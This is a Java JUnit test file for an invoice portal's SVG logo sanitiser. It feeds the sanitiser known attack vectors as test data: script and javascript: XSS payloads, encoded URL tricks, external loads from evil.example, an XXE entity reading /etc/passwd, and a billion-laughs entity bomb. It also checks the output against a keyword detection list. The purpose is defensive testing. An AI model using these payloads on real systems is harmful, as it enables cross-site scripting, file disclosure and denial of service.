package io.invoiceportal.core.tenant;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.io.StringReader;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Locale;
import java.util.Set;
import javax.xml.parsers.DocumentBuilderFactory;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import org.w3c.dom.Attr;
import org.w3c.dom.Element;
import org.w3c.dom.NamedNodeMap;
import org.w3c.dom.NodeList;
import org.xml.sax.InputSource;

/**
 * The logo sanitiser against the known SVG attack vectors (OWASP XSS filter evasion, XXE,
 * billion laughs): what is dangerous is gone or refused, what a logo needs is kept.
 */
class SvgSanitizerTest {
    private static final String SVG = "<svg xmlns=\"http://www.w3.org/2000/svg\" xmlns:xlink=\"http://www.w3.org/1999/xlink\""
            + " viewBox=\"0 0 100 100\">";
    private static final String RECT = "<rect id=\"box\" width=\"10\" height=\"10\" fill=\"#1b7340\"/>";
    private static final Set<String> ELEMENTS = Set.of("svg", "g", "defs", "title", "desc", "symbol", "use", "path",
            "rect", "circle", "ellipse", "line", "polyline", "polygon", "text", "tspan", "linearGradient",
            "radialGradient", "stop", "clipPath", "mask", "pattern");

    private static String clean(String markup) throws SvgSanitizer.Refused {
        String result = SvgSanitizer.sanitize(markup);
        assertSafe(result);
        assertThat(SvgSanitizer.sanitize(result)).as("sanitising twice changes nothing").isEqualTo(result);
        return result;
    }

    /** Whatever came in, what goes out has only allowed elements, no handlers and only local links. */
    private static void assertSafe(String svg) {
        Element root = parse(svg);
        List<Element> all = new ArrayList<>(List.of(root));
        NodeList descendants = root.getElementsByTagNameNS("*", "*");
        for (int i = 0; i < descendants.getLength(); i++) {
            all.add((Element) descendants.item(i));
        }
        for (Element e : all) {
            assertThat(e.getNamespaceURI()).isEqualTo(SvgSanitizer.SVG_NS);
            assertThat(ELEMENTS).contains(e.getLocalName());
            NamedNodeMap attrs = e.getAttributes();
            for (int i = 0; i < attrs.getLength(); i++) {
                Attr a = (Attr) attrs.item(i);
                assertThat(a.getLocalName().toLowerCase(Locale.ROOT)).doesNotStartWith("on").isNotEqualTo("style");
                if (a.getLocalName().equals("href")) {
                    assertThat(a.getValue()).startsWith("#");
                }
            }
        }
        String text = svg.replace(SvgSanitizer.SVG_NS, "").replace(SvgSanitizer.XLINK_NS, "").toLowerCase(Locale.ROOT);
        assertThat(text).doesNotContain("script", "javascript", "alert", "foreignobject", "data:", "http", "evil",
                "<style", "<animate", "<set", "<image", "<a ", "<iframe", "<!entity", "passwd");
    }

    private static Element parse(String svg) {
        try {
            DocumentBuilderFactory f = DocumentBuilderFactory.newInstance();
            f.setNamespaceAware(true);
            return f.newDocumentBuilder().parse(new InputSource(new StringReader(svg))).getDocumentElement();
        } catch (Exception e) {
            throw new AssertionError("not well-formed: " + svg, e);
        }
    }

    @Test
    void keepsAPlainLogoAsItIs() throws Exception {
        assertThat(clean("<svg xmlns=\"http://www.w3.org/2000/svg\" viewBox=\"0 0 10 10\"><!-- c -->" + RECT + "</svg>"))
                .isEqualTo("<svg xmlns=\"http://www.w3.org/2000/svg\" viewBox=\"0 0 10 10\">"
                        + "<rect fill=\"#1b7340\" height=\"10\" id=\"box\" width=\"10\"></rect></svg>");
    }

    @Test
    void svgWithoutNamespaceGetsIt() throws Exception {
        assertThat(clean("<svg width=\"10\">" + RECT + "</svg>")).startsWith("<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"10\">");
    }

    @ParameterizedTest
    @ValueSource(strings = {
        "<script>alert(1)</script>",
        "<script type=\"text/ecmascript\"><![CDATA[alert(1)]]></script>",
        "<script href=\"https://evil.example/x.js\"/>",
        "<g><script xlink:href=\"data:text/javascript,alert(1)\"/></g>",
        "<foreignObject width=\"100\" height=\"100\"><body xmlns=\"http://www.w3.org/1999/xhtml\">"
                + "<iframe src=\"javascript:alert(1)\"></iframe><script>alert(1)</script></body></foreignObject>",
        "<a href=\"javascript:alert(1)\"><text x=\"1\" y=\"9\">click</text></a>",
        "<a xlink:href=\"&#106;avascript:alert(1)\"><rect width=\"5\" height=\"5\"/></a>",
        "<animate attributeName=\"href\" to=\"javascript:alert(1)\" begin=\"0s\"/>",
        "<set attributeName=\"xlink:href\" to=\"javascript:alert(1)\"/>",
        "<use href=\"#box\"><set attributeName=\"href\" to=\"javascript:alert(1)\"/></use>",
        "<animateTransform attributeName=\"onload\" to=\"alert(1)\"/>",
        "<image href=\"https://evil.example/tracker.png\" width=\"1\" height=\"1\"/>",
        "<image xlink:href=\"javascript:alert(1)\"/>",
        "<style>@import url(https://evil.example/x.css); rect { fill: url(javascript:alert(1)) }</style>",
        "<handler xmlns=\"http://www.w3.org/2001/xml-events\" event=\"load\">alert(1)</handler>",
        "<iframe xmlns=\"http://www.w3.org/1999/xhtml\" src=\"javascript:alert(1)\"/>",
        "<feImage href=\"https://evil.example/x.svg\"/>",
    })
    void removesElementsThatRunOrLoadSomething(String vector) throws Exception {
        String result = clean(SVG + RECT + vector + "</svg>");
        assertThat(parse(result).getElementsByTagNameNS(SvgSanitizer.SVG_NS, "rect").getLength()).isEqualTo(1);
    }

    @ParameterizedTest
    @ValueSource(strings = {
        "<rect width=\"5\" height=\"5\" onload=\"alert(1)\"/>",
        "<rect width=\"5\" height=\"5\" OnLoAd=\"alert(1)\"/>",
        "<rect width=\"5\" height=\"5\" onmouseover=\"alert(1)\" ONCLICK=\"alert(1)\"/>",
        "<rect width=\"5\" height=\"5\" style=\"fill: url(https://evil.example/x)\"/>",
        "<rect width=\"5\" height=\"5\" fill=\"url(https://evil.example/x#g)\"/>",
        "<rect width=\"5\" height=\"5\" fill=\"URL( 'javascript:alert(1)' )\"/>",
        "<rect width=\"5\" height=\"5\" fill=\"u\\72l(https://evil.example/x)\"/>",
        "<rect width=\"5\" height=\"5\" fill=\"url(#box) url(data:image/png;base64,AAAA)\"/>",
        "<rect width=\"5\" height=\"5\" mask=\"url(https://evil.example/m.svg#m)\"/>",
        "<use href=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+#x\"/>",
        "<use href=\"https://evil.example/sprite.svg#logo\"/>",
        "<use xlink:href=\"https://evil.example/sprite.svg#logo\"/>",
        "<use xlink:href=\"&#106;avascript:alert(1)\"/>",
        "<use href=\"&#x6A;&#x61;vascript&#58;alert(1)\"/>",
        "<use href=\" javascript:alert(1)\"/>",
        "<use href=\"//evil.example/s.svg#a\"/>",
        "<rect width=\"5\" height=\"5\" xml:base=\"https://evil.example/\" xmlns:ev=\"http://www.w3.org/2001/xml-events\""
                + " ev:event=\"load\" ev:handler=\"alert(1)\"/>",
    })
    void removesAttributesThatRunOrLoadSomething(String vector) throws Exception {
        clean(SVG + RECT + vector + "</svg>");
    }

    @Test
    void keepsLinksAndPaintsThatStayInsideTheLogo() throws Exception {
        String result = clean(SVG + "<defs><linearGradient id=\"g\"><stop offset=\"0\" stop-color=\"#fff\"/></linearGradient>"
                + "<clipPath id=\"c\"><circle cx=\"5\" cy=\"5\" r=\"5\"/></clipPath></defs>" + RECT
                + "<rect width=\"5\" height=\"5\" fill=\"url(#g)\" clip-path=\"url('#c')\"/>"
                + "<use href=\"#box\" x=\"20\"/><use xlink:href=\"#box\" x=\"40\"/></svg>");
        assertThat(result).contains("fill=\"url(#g)\"", "clip-path=\"url('#c')\"", "<use href=\"#box\" x=\"20\">",
                "<use x=\"40\" xlink:href=\"#box\">", "xmlns:xlink=\"" + SvgSanitizer.XLINK_NS + "\"",
                "<stop offset=\"0\" stop-color=\"#fff\">");
    }

    @Test
    void escapesTextAndAttributeValues() throws Exception {
        String result = clean(SVG + "<text x=\"1\" y=\"9\" aria-label=\"a &quot;b&quot; &lt;c&gt;\">A &amp; B &lt;b&gt;</text></svg>");
        assertThat(parse(result).getTextContent()).isEqualTo("A & B <b>");
        assertThat(result).contains("aria-label=\"a &quot;b&quot; &lt;c&gt;\"");
    }

    @Test
    void refusesExternalEntities() {
        String xxe = "<?xml version=\"1.0\"?><!DOCTYPE svg [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]>"
                + "<svg xmlns=\"http://www.w3.org/2000/svg\"><text>&xxe;</text></svg>";
        assertThatThrownBy(() -> SvgSanitizer.sanitize(xxe)).isInstanceOf(SvgSanitizer.Refused.class)
                .hasMessage("logo.malformed");
        String parameterEntity = "<!DOCTYPE svg [<!ENTITY % p SYSTEM \"https://evil.example/x.dtd\"> %p;]>"
                + "<svg xmlns=\"http://www.w3.org/2000/svg\">" + RECT + "</svg>";
        assertThatThrownBy(() -> SvgSanitizer.sanitize(parameterEntity)).isInstanceOf(SvgSanitizer.Refused.class);
        String externalDtd = "<!DOCTYPE svg PUBLIC \"-//W3C//DTD SVG 1.1//EN\" \"https://evil.example/svg11.dtd\">"
                + "<svg xmlns=\"http://www.w3.org/2000/svg\">" + RECT + "</svg>";
        assertThatThrownBy(() -> SvgSanitizer.sanitize(externalDtd)).isInstanceOf(SvgSanitizer.Refused.class);
    }

    @Test
    void refusesBillionLaughsAtOnce() {
        StringBuilder dtd = new StringBuilder("<!DOCTYPE svg [<!ENTITY lol0 \"lol\">");
        for (int i = 1; i < 10; i++) {
            dtd.append("<!ENTITY lol").append(i).append(" \"")
                    .append(("&lol" + (i - 1) + ";").repeat(10)).append("\">");
        }
        String bomb = dtd + "]><svg xmlns=\"http://www.w3.org/2000/svg\"><text>&lol9;</text></svg>";
        long start = System.nanoTime();
        assertThatThrownBy(() -> SvgSanitizer.sanitize(bomb)).isInstanceOf(SvgSanitizer.Refused.class);
        assertThat((System.nanoTime() - start) / 1_000_000).isLessThan(2_000);
    }

    @ParameterizedTest
    @ValueSource(strings = {
        "<svg xmlns=\"http://www.w3.org/2000/svg\"><rect></svg>",
        "not markup at all",
        "<svg xmlns=\"http://www.w3.org/2000/svg\"><rect/></svg><svg/>",
        "<svg xmlns=\"http://www.w3.org/2000/svg\"><text>&nbsp;</text></svg>",
        "",
    })
    void refusesMarkupThatIsNotWellFormed(String markup) {
        assertThatThrownBy(() -> SvgSanitizer.sanitize(markup)).isInstanceOf(SvgSanitizer.Refused.class)
                .hasMessage("logo.malformed");
    }

    @ParameterizedTest
    @ValueSource(strings = {
        "<html><body><svg xmlns=\"http://www.w3.org/2000/svg\"><rect/></svg></body></html>",
        "<svg xmlns=\"http://www.w3.org/1999/xhtml\"><rect width=\"1\" height=\"1\"/></svg>",
        "<x:svg xmlns:x=\"https://evil.example/ns\"><rect/></x:svg>",
    })
    void refusesARootThatIsNotSvg(String markup) {
        assertThatThrownBy(() -> SvgSanitizer.sanitize(markup)).isInstanceOf(SvgSanitizer.Refused.class)
                .hasMessage("logo.notSvg");
    }

    @Test
    void aLogoOfOnlyHostileContentIsLeftEmpty() throws Exception {
        assertThat(clean(SVG + "<script>alert(1)</script><foreignObject><p xmlns=\"http://www.w3.org/1999/xhtml\">hi</p>"
                + "</foreignObject></svg>")).isEqualTo("<svg xmlns=\"http://www.w3.org/2000/svg\" viewBox=\"0 0 100 100\"></svg>");
    }

    @Test
    void refusesDeepNestingWithoutOverflowingTheStack() {
        String deep = SVG + "<g>".repeat(20_000) + RECT + "</g>".repeat(20_000) + "</svg>";
        assertThatThrownBy(() -> SvgSanitizer.sanitize(deep)).isInstanceOf(SvgSanitizer.Refused.class);
    }

    /** The sample tenants' logos keep every element, attribute and text. */
    @ParameterizedTest
    @ValueSource(strings = {"hollandse-energie", "northwind-facilities"})
    void sampleLogosPassUnchangedInSubstance(String tenant) throws Exception {
        Path file = Path.of(System.getProperty("user.dir")).resolve("../../tenants-sample").resolve(tenant).resolve("logo.svg");
        String original = Files.readString(file);
        String result = clean(original);
        assertThat(shape(parse(result))).isEqualTo(shape(parse(original)));
    }

    /** Every element with its attributes (without namespace declarations) and its own text. */
    private static List<String> shape(Element root) {
        List<String> out = new ArrayList<>();
        List<Element> all = new ArrayList<>(List.of(root));
        NodeList descendants = root.getElementsByTagNameNS("*", "*");
        for (int i = 0; i < descendants.getLength(); i++) {
            all.add((Element) descendants.item(i));
        }
        for (Element e : all) {
            StringBuilder s = new StringBuilder(e.getNamespaceURI() + " " + e.getLocalName());
            NamedNodeMap attrs = e.getAttributes();
            for (int i = 0; i < attrs.getLength(); i++) {
                Attr a = (Attr) attrs.item(i);
                if (!a.getName().startsWith("xmlns")) {
                    s.append(' ').append(a.getName()).append('=').append(a.getValue());
                }
            }
            if (e.getChildNodes().getLength() == 1 && e.getFirstChild().getNodeType() == org.w3c.dom.Node.TEXT_NODE) {
                s.append(" text=").append(e.getTextContent());
            }
            out.add(s.toString());
        }
        return out;
    }
}
